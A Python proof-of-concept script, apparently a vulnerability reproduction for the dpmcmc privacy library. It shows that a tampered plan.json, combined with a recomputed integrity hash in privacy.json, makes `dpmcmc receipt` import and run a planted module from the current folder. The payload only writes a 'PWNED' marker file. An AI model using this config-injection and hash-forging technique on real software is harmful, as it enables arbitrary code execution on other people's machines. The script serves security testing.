"""plan.json of a stranger names an accountant: `dpmcmc receipt` imports it from the current folder without consent."""
import json, pathlib, subprocess, sys, tempfile, numpy as np
import dpmcmc
tmp = pathlib.Path(tempfile.mkdtemp())
plan = dpmcmc.plan(dpmcmc.targets.LogisticRegression(num_features=2, row_bound=2.0), num_records=100, sampler=dpmcmc.SGLD(step_size=1.0), steps=10, privacy=dpmcmc.Privacy(epsilon=1.0, delta=1e-5))
rec = {"x": np.linspace(-1, 1, 200).reshape(100, 2).astype(np.float32), "y": np.zeros(100, int)}
run = tmp / "run"
dpmcmc.sample(plan, rec, out=run)
p = run / "plan.json"
body = json.loads(p.read_text())
body["config"]["privacy"]["accountant"] = "evil_accountant:fn"
p.write_text(json.dumps(body))
import hashlib
from dpmcmc.storage.files import KEY
priv = run / "privacy.json"
said = json.loads(priv.read_text())
print(type(said[KEY]), list(said[KEY])[:3])
said[KEY]["plan.json"] = hashlib.sha256(p.read_bytes()).hexdigest()
priv.write_text(json.dumps(said))
(run / "evil_accountant.py").write_text("import pathlib; pathlib.Path('PWNED').write_text('x')\ndef fn(events, adjacency, delta) -> float:\n    return 1.0\n")
np.savez(tmp / "me.npz", x=rec["x"][:1], y=rec["y"][:1])
out = subprocess.run([sys.executable, "-m", "dpmcmc", "receipt", ".", "--record", str(tmp / "me.npz")], cwd=run, capture_output=True, text=True)
print(out.returncode, out.stdout[-600:], out.stderr[-600:])
print("code ran without consent:", (run / "PWNED").exists())
